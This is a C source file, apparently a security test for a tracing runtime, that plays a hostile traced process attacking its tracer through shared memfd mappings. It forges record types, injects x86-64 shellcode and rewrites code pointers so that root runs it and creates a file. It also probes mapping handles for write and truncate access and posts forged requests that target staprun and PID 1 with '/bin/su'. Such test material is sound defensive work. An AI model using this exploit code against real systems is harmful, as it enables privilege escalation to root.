/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A traced process that attacks the tracer through what the script has mapped into it.
 *
 *   takeover forge TYPE COMMAND   makes each record that holds COMMAND one of TYPE
 *   takeover code PATH            writes code that creates PATH if root runs it over all that can be executed, and its
 *                                 address over all that points there
 *   takeover handles              looks for a way to write to, or shorten, what is mapped, by other names of it
 *   takeover requests             asks to have the processes of staprun traced
 *   takeover drop UID ...         becomes UID first, after it was traced
 *
 * It says "ready", goes on once it is traced, says "done" and waits to be killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <stdio.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../../runtime/include/wire.h"

enum { MAX = 32, PAUSE_US = 2000, TRIES = 200 };

static struct mapping { uint64_t start, end; char access[8]; } maps[MAX];
static int nmaps;

__attribute__((noipa)) long step(const char *text, long i)
{
	__asm__ volatile("" : : "r"(text) : "memory");
	return i + 1;
}

static void find_maps(void)
{
	FILE *f = fopen("/proc/self/maps", "r");
	char line[1000];

	nmaps = 0;
	while (nmaps < MAX && fgets(line, sizeof line, f)) {
		struct mapping *m = &maps[nmaps];

		if (strstr(line, "memfd:ustap") &&
		    sscanf(line, "%" SCNx64 "-%" SCNx64 " %7s", &m->start, &m->end, m->access) == 3)
			nmaps++;
	}
	fclose(f);
}

static const struct mapping *shared_data(void)
{
	for (int i = 0; i < nmaps; i++)
		if (!strcmp(maps[i].access, "rw-s"))
			return &maps[i];
	printf("nothing is shared\n");
	exit(1);
}

/* ----------------------------------------------------------------- records */

/* struct ust_rec is 24 bytes: length, type (16 bits), ... */
static int forge(int type, const char *command)
{
	const struct mapping *m = shared_data();
	size_t n = strlen(command);
	int forged = 0;

	for (int i = 0; i < TRIES; i++) {
		char *at = (char *)m->start, *end = (char *)m->end;

		step(command, i);
		while ((at = memmem(at, (size_t)(end - at), command, n))) {
			uint16_t *head = (uint16_t *)(at - 20);

			if (((uintptr_t)at & 7) == 0 && (*head == 1 || *head == 6)) {
				*head = (uint16_t)type;
				forged++;
			}
			at += n;
		}
		usleep(PAUSE_US);
	}
	return forged;
}

/* -------------------------------------------------------------------- code */

/* geteuid(); if 0: open(path, O_CREAT | O_WRONLY, 0644); exit_group(0) */
static const unsigned char payload[] = {
	0xb8, 107, 0, 0, 0, 0x0f, 0x05, 0x85, 0xc0, 0x75, 0x18,
	0xb8, 2, 0, 0, 0, 0x48, 0x8d, 0x3d, 0x1a, 0, 0, 0,
	0xbe, 0x41, 0, 0, 0, 0xba, 0xa4, 0x01, 0, 0, 0x0f, 0x05,
	0xb8, 231, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05};
enum { PATH_AT = 0x1a + 23 };

static void put_code(const struct mapping *m, const char *path)
{
	size_t size = m->end - m->start;

	memset((void *)m->start, 0x90, size);
	memcpy((char *)m->end - 256, payload, sizeof payload);
	snprintf((char *)m->end - 256 + PATH_AT, 200, "%s", path);
}

static void put_address(const struct mapping *m, uint64_t from, uint64_t to, uint64_t address)
{
	for (uint64_t *p = (uint64_t *)m->start; p < (uint64_t *)m->end; p++)
		if (*p >= from && *p < to)
			*p = address;
}

static int code(const char *path)
{
	const struct mapping *text = NULL;
	int writable = 0;

	for (int i = 0; i < nmaps; i++)
		if (strchr(maps[i].access, 'x'))
			text = &maps[i];
	for (int i = 0; text && i < nmaps; i++) {
		const struct mapping *m = &maps[i];

		if (mprotect((void *)m->start, m->end - m->start, PROT_READ | PROT_WRITE | (m == text ? PROT_EXEC : 0)))
			continue;
		writable++;
		if (m != text && m->end - m->start < 1 << 20)
			put_address(m, text->start, text->end, text->end - 256);
	}
	if (text)
		put_code(text, path);
	return writable;
}

/* ----------------------------------------------------------------- handles */

/* In how many ways does the name give what the mapping does not?  Writing to data is already possible. */
static int ways_by(const char *name, int is_data)
{
	int fd = open(name, O_RDWR | O_CLOEXEC), ways;
	char byte;

	if (fd < 0)
		return 0;
	ways = ftruncate(fd, 0) == 0;
	ways += ftruncate(fd, 1ll << 40) == 0;
	ways += fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE) == 0;
	if (!is_data && pread(fd, &byte, 1, 0) == 1) {
		ways += pwrite(fd, &byte, 1, 0) == 1;
		ways += mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED;
	}
	close(fd);
	return ways;
}

static int handles(void)
{
	int ways = 0;

	for (int i = 0; i < nmaps; i++) {
		char name[100];

		snprintf(name, sizeof name, "/proc/self/map_files/%" PRIx64 "-%" PRIx64, maps[i].start, maps[i].end);
		ways += ways_by(name, !strcmp(maps[i].access, "rw-s"));
	}
	for (int fd = 3; fd < 1024; fd++) {
		char name[40], to[100] = "";

		snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
		ways += readlink(name, to, sizeof to - 1) > 0 && strstr(to, "memfd:ustap");
	}
	return ways;
}

/* ---------------------------------------------------------------- requests */

struct request { uint32_t state, type, pid, tid; uint64_t arg[2]; };
enum { POSTED = 2, MODULES = 1, GATES = 3, STATUS = sizeof(struct ust_status), BELL = STATUS + 20 };

/* Behind struct ust_status, before which is the doorbell: it begins with a small number, its
 * version; the script runs, and its target is this process. */
static struct request *find_requests(void)
{
	const struct mapping *m = shared_data();

	for (char *p = (char *)m->start; p + STATUS < (char *)m->end && p < (char *)m->start + (1 << 20); p += 8) {
		const uint32_t *v = (const uint32_t *)p;

		if (v[0] && v[0] < 1000 && (v[1] == 1 || v[1] == 2) &&
		    *(const int64_t *)(p + offsetof(struct ust_status, target)) == getpid())
			return (struct request *)(p + STATUS);
	}
	return NULL;
}

/* All processes whose name begins so. */
static int find_staprun(long *pids, int max)
{
	DIR *dir = opendir("/proc");
	struct dirent *de;
	int n = 0;

	while (dir && n < max && (de = readdir(dir))) {
		char path[300], name[32] = "";
		int fd;

		if (atol(de->d_name) <= 0)
			continue;
		snprintf(path, sizeof path, "/proc/%s/comm", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd >= 0 && read(fd, name, sizeof name - 1) > 0 && !strncmp(name, "staprun", 7))
			pids[n++] = atol(de->d_name);
		if (fd >= 0)
			close(fd);
	}
	closedir(dir);
	return n;
}

static int requests(void)
{
	struct request *v = find_requests();
	long pids[16];
	int n = find_staprun(pids, 15), posted = 0;

	pids[n++] = 1;
	for (int i = 0; v && i < n; i++)
		for (uint32_t type = MODULES; type <= GATES; type++) {
			struct request *r = &v[posted++];

			r->type = type;
			r->pid = r->tid = (uint32_t)pids[i];
			r->arg[0] = (uint64_t)"/bin/su";
			__atomic_store_n(&r->state, POSTED, __ATOMIC_RELEASE);
			__atomic_fetch_add((uint32_t *)((char *)v - BELL), 1, __ATOMIC_RELEASE);
		}
	usleep(500000);
	return posted > 0;
}

/* -------------------------------------------------------------------- main */

static void drop(uid_t uid)
{
	if (setgroups(0, NULL) || setgid(uid) || setuid(uid))
		exit(1);
}

static int attack(char **argv)
{
	if (!strcmp(argv[0], "forge"))
		return forge(atoi(argv[1]), argv[2]);
	if (!strcmp(argv[0], "code"))
		return code(argv[1]);
	return !strcmp(argv[0], "handles") ? handles() : requests();
}

int main(int argc, char **argv)
{
	int traced = 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (int i = 0; i < 5000 && !traced; i++) {
		usleep(PAUSE_US);
		step("", i);
		find_maps();
		traced = nmaps > 0;
	}
	usleep(200000);
	argv++;
	if (argc > 3 && !strcmp(argv[0], "drop")) {
		drop((uid_t)atoi(argv[1]));
		argv += 2;
	}
	printf("%s %d\n", argv[0], attack(argv));
	printf("done\n");
	sleep(20);
	return 0;
}
